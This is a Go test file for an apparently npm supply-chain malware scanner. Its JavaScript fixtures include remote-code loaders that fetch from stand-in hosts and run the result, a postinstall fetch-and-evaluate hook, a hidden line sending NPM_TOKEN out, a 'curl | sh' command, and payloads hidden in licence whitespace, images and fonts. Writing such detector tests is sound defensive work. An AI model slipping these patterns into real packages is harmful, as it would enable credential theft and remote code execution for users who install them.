package code

import (
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestDynamicEval(t *testing.T) {
	rt.Check(t, DynamicEval{}, []rt.Case{
		{"decoded", map[string]string{"index.js": `eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())`}, finding.SeverityHigh},
		{"variable", map[string]string{"index.js": `module.exports = (s) => eval(s)`}, finding.SeverityLow},
		{"global_this_polyfill", map[string]string{"index.js": `var g = Function("return this")()`}, finding.SeverityNone},
		{"comment_only", map[string]string{"index.js": "// eval(atob('eA=='))\nmodule.exports = 1"}, finding.SeverityNone},
		{"worker_eval", map[string]string{"index.js": `const { Worker } = require("worker_threads"); new Worker(Buffer.from(p, "base64").toString(), { eval: true })`}, finding.SeverityLow},
		{"worker_file", map[string]string{"index.js": `const { Worker } = require("worker_threads"); new Worker(require("path").join(__dirname, "worker.js"))`}, finding.SeverityNone},
	})
}

func TestRemoteEval(t *testing.T) {
	hmr := func(url string) string {
		return `var es = new EventSource("` + url + `"); es.onmessage = function (e) { var msg = JSON.parse(e.data);
  var mod = { exports: {} }; new Function("module", "exports", msg.code)(mod, mod.exports) };`
	}
	dataImport := func(url string) string {
		return `const https = require("https"); const get = (u) => new Promise((ok) => https.get(u, (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => ok(JSON.parse(d))) }));
async function load(src) { return import("data:text/javascript;base64," + Buffer.from(src).toString("base64")) }
exports.sync = async (u) => { const next = await get(u || "` + url + `"); if (next.operators) await load(next.operators) };`
	}
	rt.Check(t, RemoteEval{}, []rt.Case{
		// server-sent source run as a module through a data: URL, with or
		// without a host of the file's own; a compiler importing the
		// module it just built makes no request
		{"data_import_named_host", map[string]string{"src/flags.js": dataImport("https://edge.example.invalid/v1/flags")}, finding.SeverityCritical},
		{"data_import_given_host", map[string]string{"src/flags.js": dataImport("")}, finding.SeverityHigh},
		// the same in a CLI's minified chunk, which imports the modules it
		// builds that way
		{"data_import_minified_chunk", map[string]string{"lib/chunks/A1.js": strings.ReplaceAll(dataImport("https://edge.example.invalid/v1/flags"), "\n", ";") + ";" + strings.Repeat("var a=1;", 200)}, finding.SeverityNone},
		// the address decoded, handed to a helper of the file's
		{"data_import_decoded_address", map[string]string{"src/rules.js": `const A = "qmzxw2fkv7nb3cjrs9gt4dh5lp6ey8au"; function dec(id) { let bits = ""; for (const c of id) bits += A.indexOf(c).toString(2).padStart(5, "0"); const out = []; for (let i = 0; i + 8 <= bits.length; i += 8) out.push(parseInt(bits.slice(i, i + 8), 2)); return Buffer.from(out).toString() }
const get = (u) => new Promise((ok) => require(u.split(":")[0]).get(u, (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => ok(d)) }));
exports.load = async () => { const src = await get(dec("` + b32own("https://c.example.invalid/r.js") + `")); return import("data:text/javascript;base64," + Buffer.from(src).toString("base64")) }`}, finding.SeverityCritical},
		{"data_import_compiler", map[string]string{"src/compile.js": `exports.run = async (code) => import("data:text/javascript;base64," + Buffer.from(transform(code)).toString("base64"))`}, finding.SeverityNone},
		// a dev server's hot reload runs what the page's own server sends;
		// the same client pointed at a host of its own
		{"hot_reload_own_origin", map[string]string{"client/hmr.js": hmr("/__hmr")}, finding.SeverityNone},
		{"hot_reload_other_host", map[string]string{"client/hmr.js": hmr("https://hmr.example.invalid/__hmr")}, finding.SeverityCritical},
		// a module wrapper taking require around what a fetcher module
		// downloads; the same wrapper around a local file (a test runner)
		{"cjs_wrapper_fetched_by_module", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"fetcher.js": `exports.get = async (u) => (await fetch(u)).text()`,
			"index.js":   "const vm = require(\"vm\"), { get } = require(\"./fetcher\"); const INDEX = \"https://c.example.invalid/presets/index.js\"; exports.load = async (u = INDEX) => { const text = await get(u); const fn = vm.runInThisContext(`(function (module, exports, require) {\\n${text}\\n})`); const m = { exports: {} }; fn(m, m.exports, require); return m.exports }"}, finding.SeverityCritical},
		// a module federation runtime: the remote entry it is handed,
		// fetched and wrapped in the same file
		{"cjs_wrapper_given_address", map[string]string{"index.js": "const vm = require(\"vm\"); exports.fallback = (u) => fetch(u); exports.load = async (f, url) => { const data = await (await f(url)).text(); const s = new vm.Script(`(function(exports, module, require) {${data}\\n})`); const m = { exports: {} }; s.runInThisContext()(m.exports, m, require); return m.exports }"}, finding.SeverityHigh},
		{"cjs_wrapper_local_file", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"paths.js": `exports.resolve = (p) => require("path").resolve(p)`,
			"index.js": "const vm = require(\"vm\"), fs = require(\"fs\"), { resolve } = require(\"./paths\"); exports.load = (p) => { const text = fs.readFileSync(resolve(p), \"utf8\"); const fn = vm.runInThisContext(`(function (module, exports, require) {\\n${text}\\n})`); const m = { exports: {} }; fn(m, m.exports, require); return m.exports }"}, finding.SeverityNone},
		// the response reaches the Function through an error handler
		{"error_handler_loader", map[string]string{"index.js": `const axios = require("axios"); const run = (e) => { const mk = (c) => new (Function.constructor)("require", c); mk(e)(require) }
module.exports = async () => { try { await axios.get(url) } catch (err) { run(err.response.data.cookie) } }`}, finding.SeverityCritical},
		// the server names the module and the function: a remote-control
		// loop; a plugin of the package's own named by a reply is not it
		{"require_named_by_reply", map[string]string{"index.js": `const https = require("https"); https.get("https://m.example.invalid/v1/d", (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => { const d = JSON.parse(b); require(d.m)[d.f](...d.a) }) })`}, finding.SeverityCritical},
		{"require_own_plugin_named_by_reply", map[string]string{"index.js": `const https = require("https"); https.get("https://m.example.invalid/v1/d", (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => { const d = JSON.parse(b); require("./plugins/" + d.name).init() }) })`}, finding.SeverityNone},
		// an ES module fetched at install and linked with vm
		{"source_text_module_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node p.mjs"}}`,
			"p.mjs": "import vm from 'node:vm'; const res = await fetch('https://ipfs.io/ipfs/bafy/p.mjs'); const src = await res.text(); const m = new vm.SourceTextModule(src); await m.link(() => {}); await m.evaluate()"}, finding.SeverityCritical},
		// a module loader compiling the package's files, with no request
		{"commonjs_wrapper", map[string]string{"index.js": `const fs = require("fs"); module.exports = p => { const m = { exports: {} }; new Function("exports", "require", "module", fs.readFileSync(p, "utf8"))(m.exports, require, m); return m.exports }`}, finding.SeverityNone},
		// the same loader in a file that also makes requests (a CLI
		// running Yarn's .pnp.cjs next to its registry calls)
		{"commonjs_wrapper_with_requests", map[string]string{"index.js": `const fs = require("fs"); fetch(registry); module.exports = p => { const m = { exports: {} }; new Function("module", "exports", "require", fs.readFileSync(p, "utf8").replace(/^#!.*/, ""))(m, m.exports, require); return m.exports }`}, finding.SeverityNone},
		{"compiled_wrapper_with_requests", map[string]string{"index.js": `const fs_1 = require("fs"); fetch(registry); exports.load = p => new Function("module", "exports", "require", (0, fs_1.readFileSync)(p, "utf-8"))(m, m.exports, require)`}, finding.SeverityNone},
		// a module loader runs the script at the URL it is given; a field
		// of a reply from such a URL is a payload (Contagious Interview)
		{"amd_loader", map[string]string{"index.js": "exports.load = (url, done) => fetch(url).then(r => r.text()).then(src => { (0, eval)(src + \"\\n//# sourceURL=\" + url); done() })"}, finding.SeverityHigh},
		{"reply_field_from_given_url", map[string]string{"index.js": `const axios = require("axios"); exports.sync = async (des) => { const res = await axios.get(des); eval(res.data.cookie) }`}, finding.SeverityCritical},
		{"await_axios", map[string]string{"index.js": `const axios = require("axios"); (async () => { const r = await axios.get("https://x.invalid/c"); eval(r.data.code) })()`}, finding.SeverityCritical},
		{"https_callback", map[string]string{"index.js": `require("https").get("https://x.invalid", res => { let b=""; res.on("data", d => b += d); res.on("end", () => new Function(res.body)()) })`}, finding.SeverityCritical},
		{"fetch_then", map[string]string{"index.js": `fetch("https://x.invalid/p").then(resp => eval(resp.text))`}, finding.SeverityCritical},
		{"eval_unrelated", map[string]string{"index.js": `const r = await fetch(u); const tpl = load(); eval(tpl)`}, finding.SeverityNone},
	})
}

func TestDecodeExecute(t *testing.T) {
	blob := ""
	for i := 0; i < 40; i++ {
		blob += "Y29uc29sZS5sb2coMSk7"
	}
	rt.Check(t, DecodeExecute{}, []rt.Case{
		{"decipher_compile", map[string]string{"index.js": `const c = require("crypto"); const d = c.createDecipheriv("aes-256-cbc", k, iv); const m = new module.constructor(); m._compile(d.update(p, "hex", "utf8"), "x")`}, finding.SeverityCritical},
		// bits kept as trailing whitespace in the licence
		{"licence_whitespace", map[string]string{"index.js": `const fs = require("fs"), path = require("path"); const text = fs.readFileSync(path.join(__dirname, "LICENSE"), "utf8");
const fp = text.split("\n").map((l) => (l.match(/[ \t]+$/) || [""])[0]).join(""); const bytes = fp.match(/[ \t]{8}/g).map((b) => parseInt(b.replace(/ /g, "0").replace(/\t/g, "1"), 2));
new Function("require", Buffer.from(bytes).toString("utf8"))(require)`}, finding.SeverityCritical},
		// code spelled as word indices, made characters by a map
		{"word_indices", map[string]string{"index.js": `const vm = require("vm"), WORDS = require("./words"), SAMPLE = require("./sample");
const body = SAMPLE.split(" ").map((w) => String.fromCharCode(32 + WORDS.indexOf(w))).join(""); vm.compileFunction(body, ["require"])(require)`}, finding.SeverityHigh},
		// bytes XORed with a constant key by a map
		{"xor_map", map[string]string{"index.js": `const mem = new Uint8Array(inst.exports.memory.buffer); const table = Buffer.from(mem.subarray(8, 900).map((c) => c ^ 0x5a)).toString("utf8"); new Function("require", table)(require)`}, finding.SeverityHigh},
		// code made of numbers computed from a stylesheet's colours or an
		// icon's coordinates
		{"char_codes_apply", map[string]string{"index.js": `const lut = Uint8Array.from(samples.flatMap(hexToRgb)); const body = String.fromCharCode.apply(null, lut).trim(); Function("require", body)(require)`}, finding.SeverityHigh},
		{"filled_byte_array", map[string]string{"index.js": `const table = []; for (const d of paths) table.push(...offsets(d)); const program = Buffer.from(table).toString("latin1"); new Function("require", program)(require)`}, finding.SeverityHigh},
		// code kept in a function's comment, cut out of its source text;
		// a function's whole source run again is a clone
		{"function_comment", map[string]string{"index.js": "function k() {\n/*! doc\nrequire('https').get('https://x.invalid/' + process.env.NPM_TOKEN)\n*/ return 1 }\nconst s = Function.prototype.toString.call(k); Function('require', s.slice(s.indexOf('\\n'), s.indexOf('*/')))(require)"}, finding.SeverityHigh},
		{"function_clone", map[string]string{"index.js": "function k(a) { /* doubles a */ return a * 2 }\nmodule.exports = new Function('return ' + k.toString())()"}, finding.SeverityNone},
		// decoded text kept on an object before it is compiled
		{"decoded_property", map[string]string{"index.js": `const zlib = require("zlib"), Module = require("module"); const body = zlib.gunzipSync(blob); const m = new Module("x", module); m.src = body.toString("utf8"); m._compile(m.src, "x")`}, finding.SeverityHigh},
		{"plain_property", map[string]string{"index.js": `const Module = require("module"); const m = new Module("x", module); m.src = require("fs").readFileSync(require.resolve("./lib/x.js"), "utf8"); m._compile(m.src, "x")`}, finding.SeverityNone},
		// a template engine compiles what it is given
		{"template_compile", map[string]string{"index.js": `exports.compile = (tpl) => new Function("it", "return " + JSON.stringify(tpl.split("{{")).replace(/x/g, "y"))`}, finding.SeverityNone},
		{"eval_long_blob", map[string]string{"index.js": `eval(atob("` + blob + `"))`}, finding.SeverityCritical},
		// a minified file: a credentials store's decryption far from a
		// plugin loader on the same line is no decrypt-and-run
		{"minified_far_apart", map[string]string{"index.js": `const A=require("crypto");class S{dec(t){const e=A.createDecipheriv(a,this.k,this.iv);return e.update(t,"hex","utf8")}}` + strings.Repeat(`function q(o){return o.map(x=>x*2).filter(Boolean)}`, 120) + `async function P(src){return (await import("data:text/javascript;base64,"+btoa(src))).default}`}, finding.SeverityNone},
		// code hidden after an image's end marker
		{"image_payload", map[string]string{"index.js": `const fs = require("fs"), path = require("path");
const img = fs.readFileSync(path.join(__dirname, "assets", "logo.png")); eval(img.slice(img.indexOf("IEND") + 8).toString())`}, finding.SeverityCritical},
		{"font_payload_destructured", map[string]string{"index.js": `const { readFileSync: r } = require("fs"); new Function(r(__dirname + "/fonts/i.woff2", "latin1").split("|").pop())()`}, finding.SeverityCritical},
		// a source map's sourcesContent run as code
		{"sourcemap_payload", map[string]string{"dist/index.js": `const m = JSON.parse(require("fs").readFileSync(__filename + ".map", "utf8")); (0, eval)(m.sourcesContent[1])`}, finding.SeverityCritical},
		// compiling a template or a script file of the package is not hiding
		{"template_file", map[string]string{"index.js": `const fs = require("fs"); const render = new Function("data", fs.readFileSync(__dirname + "/view.ejs", "utf8"))`}, finding.SeverityNone},
		{"script_file", map[string]string{"index.js": `const vm = require("vm"), fs = require("fs"); vm.runInThisContext(fs.readFileSync(require("path").join(__dirname, "lib", "shim.js"), "utf8"))`}, finding.SeverityNone},
		{"decipher_only", map[string]string{"index.js": `const c = require("crypto"); module.exports = (k, iv, p) => c.createDecipheriv("aes-256-cbc", k, iv).update(p)`}, finding.SeverityNone},
		// code decompressed or decoded at run time, through a helper or a variable
		{"inflate_helper", map[string]string{"index.js": `const zlib = require("zlib"), vm = require("vm"); function inflate(b) { return zlib.inflateSync(Buffer.from(b, "base64")).toString("utf8") } vm.runInThisContext(inflate(require("./manifest")))(require)`}, finding.SeverityHigh},
		{"brotli_script", map[string]string{"index.js": `const { brotliDecompressSync } = require("zlib"); const { Script } = require("vm"); const src = brotliDecompressSync(Buffer.from(data, "base64")).toString(); new Script(src).runInThisContext()`}, finding.SeverityHigh},
		{"text_decoder_function", map[string]string{"index.js": `const body = new TextDecoder().decode(bytes); new Function("require", body)(require)`}, finding.SeverityHigh},
		// wasm-bindgen's glue builds functions from strings the module
		// keeps in its memory
		{"wasm_bindgen_glue", map[string]string{"index.js": `let wasm; const cachedTextDecoder = new TextDecoder("utf-8"); function getUint8ArrayMemory0() { return new Uint8Array(wasm.memory.buffer) }
function getStringFromWasm0(ptr, len) { ptr = ptr >>> 0; return cachedTextDecoder.decode(getUint8ArrayMemory0().subarray(ptr, ptr + len)) }
exports.__wbg_newnoargs = function (arg0, arg1) { return new Function(getStringFromWasm0(arg0, arg1)) }`}, finding.SeverityNone},
		// a dev server's overlay filter, passed URL-encoded in its query
		{"uri_decoded_filter", map[string]string{"index.js": "const o = parse(__resourceQuery); for (const k of [\"warnings\", \"errors\"]) { const src = decodeURIComponent(o[k]); o[k] = new Function(\"message\", `var callback = ${src}\nreturn callback(message)`) }"}, finding.SeverityNone},
		{"xor_loop_compile", map[string]string{"index.js": `const K = "crc32/IEEE"; function unwhiten(b) { const o = Buffer.alloc(b.length); for (let i = 0; i < b.length; i++) o[i] = b[i] ^ K.charCodeAt(i % K.length); return o }
const ref = unwhiten(V); const m = new module.constructor("x", module); m._compile(ref.toString("utf8"), __filename)`}, finding.SeverityHigh},
		// a hash is XOR too, and its value is not code
		{"xor_hash_key", map[string]string{"index.js": `function h(s) { let x = 0; for (const c of s) x = (x * 31) ^ c.charCodeAt(0); return x } module.exports = src => new Function("return " + JSON.stringify(src))()[h(src)]`}, finding.SeverityNone},
		{"image_tail_helper", map[string]string{"index.js": `const fs = require("fs"); function meta(f) { const b = fs.readFileSync(__dirname + "/" + f); return b.subarray(b.lastIndexOf("IEND") + 8).toString() }
function apply(m) { new Function("require", m)(require) } apply(meta("logo.png"))`}, finding.SeverityHigh},
		// a loader compiling package files next to an image it serves
		{"image_served_loader", map[string]string{"index.js": `const fs = require("fs"); exports.icon = () => fs.readFileSync(__dirname + "/icon.png"); exports.load = src => new Function("module", "exports", src)`}, finding.SeverityNone},
		// (a decoder the interpreter cannot run, here for the global it
		// reads; one it can run shows the code it decodes, which
		// code/dynamic-eval reports)
		// a download-and-run command kept encoded, whatever runs it; the
		// same command in plain text is another rule's
		{"hidden_command", map[string]string{"index.js": `const rot = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.charCodeAt(0) - (c <= "Z" ? 65 : 97) + 13) % 26) + (c <= "Z" ? 65 : 97)));
const line = rot("(phey -fsFY uggcf://hcqngrf.rknzcyr.arg/h.fu | fu &)"); module.exports = () => line`}, finding.SeverityCritical},
		{"plain_command", map[string]string{"index.js": `module.exports = () => "(curl -fsSL https://updates.example.net/u.sh | sh &)"`}, finding.SeverityNone},
		{"char_code_loop", map[string]string{"index.js": `const P = "dpotpmf/mph)2*"; function unpack(s) { if (typeof TextDecoder == "undefined") s = s.trim(); let o = ""; let i = 0; while (i < s.length) { o += String.fromCharCode(s.charCodeAt(i) - 1); i++ } return o } new Function("require", unpack(P))(require)`}, finding.SeverityHigh},
		// text read out of a WebAssembly heap is no hidden constant (emscripten's glue)
		{"heap_string", map[string]string{"index.js": `function UTF8ArrayToString(heap, idx) { let str = ""; while (heap[idx]) str += String.fromCharCode(heap[idx++]); return str } function UTF8ToString(ptr) { return ptr ? UTF8ArrayToString(HEAPU8, ptr) : "" } function _emscripten_run_script(ptr) { eval(UTF8ToString(ptr)) }`}, finding.SeverityNone},
		// install-time code giving the module system to code it builds
		{"install_vm_require", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node cli.js selftest"}}`,
			"cli.js": `const vm = require("vm"); const { decrypt } = require("./index"); vm.runInNewContext(decrypt(require("./fixture"), "k"), { require, process })`}, finding.SeverityHigh},
		// a config file evaluated with require in its context, read from disk
		{"install_vm_config_file", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node build.js"}}`,
			"build.js": `const vm = require("vm"), fs = require("fs"); const cfg = vm.runInNewContext(fs.readFileSync("build.config.js", "utf8"), { require, module: {} })`}, finding.SeverityNone},
		// lines picked out of a file whose path comes through a parameter
		// (the package's own, its comments mined) and run with require
		{"install_function_file_lines", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node cli.js --doctest"}}`,
			"cli.js": `const fs = require("fs"); function doctest(file) { const ex = fs.readFileSync(file, "utf8").split("\n").filter(l => l.startsWith(" * > ")).join("\n"); return Function("require", ex)(require) } doctest(require("path").join(__dirname, "toc.js"))`}, finding.SeverityHigh},
		// decoded data that is not run
		{"inflate_font", map[string]string{"index.js": `const zlib = require("zlib"); module.exports = zlib.inflateSync(Buffer.from(require("./font"), "base64"))`}, finding.SeverityNone},
		{"decoded_json", map[string]string{"index.js": `module.exports = JSON.parse(new TextDecoder().decode(bytes))`}, finding.SeverityNone},
	})
}

func TestComputedRequire(t *testing.T) {
	rt.Check(t, ComputedRequire{}, []rt.Case{
		{"decoded_hex_helper", map[string]string{"index.js": `function d(x){return Buffer.from(x,"hex").toString()} var m = require(d("2e2f64617461"))`}, finding.SeverityCritical},
		{"concatenated_core", map[string]string{"index.js": `const cp = require("child_" + "process")`}, finding.SeverityHigh},
		// a bundle carries a generated loader as text (yarn's PnP API)
		{"concatenated_core_in_bundle", map[string]string{"index.js": `const m = require("mod" + "ule");` + strings.Repeat(`function q(o){return o.map(x=>x*2).filter(Boolean)}`, 11000)}, finding.SeverityMedium},
		// require spelled in pieces, for a name assembled at run time
		{"spelled_require", map[string]string{"index.js": `const name = parts.sort().join(""); module[["req", "uire"].join("")](name)`}, finding.SeverityHigh},
		// a plugin loader names require plainly
		{"plugin_loader", map[string]string{"index.js": `module.exports = (name) => module.require(name); const m = module["require"](other)`}, finding.SeverityNone},
		// an isomorphic library hides worker_threads from browser bundlers
		{"hidden_worker_threads", map[string]string{"index.js": `const wt = require(["worker", "threads"].join("_"))`}, finding.SeverityMedium},
		{"plugin_loader", map[string]string{"index.js": `module.exports = name => require("./plugins/" + name)`}, finding.SeverityNone},
		// a name out of the file's own decoder, which no folding shape
		// follows: run, it decodes a name that is then known
		{"decoder_loop_name", map[string]string{"index.js": `const MOD = [115, 115, 101, 99, 111, 114, 112, 95, 100, 108, 105, 104, 99]; function inflate(t) { return t.reduce((a, _v, i, arr) => a + String.fromCharCode(arr[arr.length - 1 - i]), "") } const lib = require(inflate(MOD))`}, finding.SeverityCritical},
		{"decoder_on_table_element", map[string]string{"index.js": `const TABLE = ["dvsm", "dijme` + "`" + `qspdftt"]; const un = s => s.replace(/[\s\S]/g, ch => String.fromCharCode(ch.charCodeAt(0) - 1)); function expand(t) { return t.length } expand(TABLE); const runner = require(un(TABLE[1]))`}, finding.SeverityCritical},
		{"decoder_of_input", map[string]string{"index.js": `function inflate(t) { return t.reduce((a, c) => a + String.fromCharCode(c), "") } module.exports = bytes => require(inflate(bytes))`}, finding.SeverityNone},
		{"plain", map[string]string{"index.js": `require("child_process")`}, finding.SeverityNone},
		{"decoded_child_process", map[string]string{"index.js": `require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec(c)`}, finding.SeverityCritical},
		// isomorphic libraries hide node-only modules from browser bundlers
		{"bundler_hidden_path", map[string]string{"index.js": `var requirePath = function () { return require(String.fromCharCode(112, 97, 116, 104)) }`}, finding.SeverityMedium},
	})
}

// b32own encodes s in base32 with the alphabet of the data_import_decoded_address case.
func b32own(s string) string {
	const alpha = "qmzxw2fkv7nb3cjrs9gt4dh5lp6ey8au"
	var bits strings.Builder
	for _, b := range []byte(s) {
		fmt.Fprintf(&bits, "%08b", b)
	}
	for bits.Len()%5 != 0 {
		bits.WriteByte('0')
	}
	var out strings.Builder
	b := bits.String()
	for i := 0; i < len(b); i += 5 {
		n, _ := strconv.ParseUint(b[i:i+5], 2, 8)
		out.WriteByte(alpha[n])
	}
	return out.String()
}
